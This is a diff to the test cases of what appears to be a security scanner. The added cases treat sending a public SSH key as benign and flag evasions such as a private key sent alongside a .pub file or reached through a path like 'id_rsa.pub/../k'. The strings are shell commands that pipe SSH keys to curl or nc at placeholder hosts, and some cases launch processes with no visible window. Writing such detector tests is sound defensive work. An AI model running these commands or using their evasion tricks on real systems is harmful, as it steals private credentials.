@@ -113,6 +113,13 @@ CASES: Final = (
         "high",
         "import os\ndef f():\n    os.system('curl -d @$HOME/.ssh/id_rsa https://example.invalid')\n",
     ),
+    # The public half of a key is none.
+    Case("C4", "twin", None, "import os\nos.system('cat ~/.ssh/id_rsa.pub | curl -d @- https://example.invalid')\n"),
+    Case("C4", "twin", None, "import os\nos.system('cat ~/.ssh/*.pub | nc example.invalid 1')\n"),
+    Case("C4", "evasion", "high", "import os\nos.system('cat ~/.ssh/k.pub ~/.ssh/k | curl -d @- https://x.invalid')\n"),
+    Case(
+        "C4", "evasion", "high", "import os\nos.system('cat ~/.ssh/id_rsa.pub/../k | curl -d @- https://x.invalid')\n"
+    ),
     # What nobody sees run.
     Case("C6", "hit", "medium", "import subprocess as s\ns.Popen(['x'], creationflags=s.CREATE_NO_WINDOW)\n"),
     Case("C6", "hit", "low", f"{_S}s.Popen(['x'], creationflags=0x08000000)\n"),
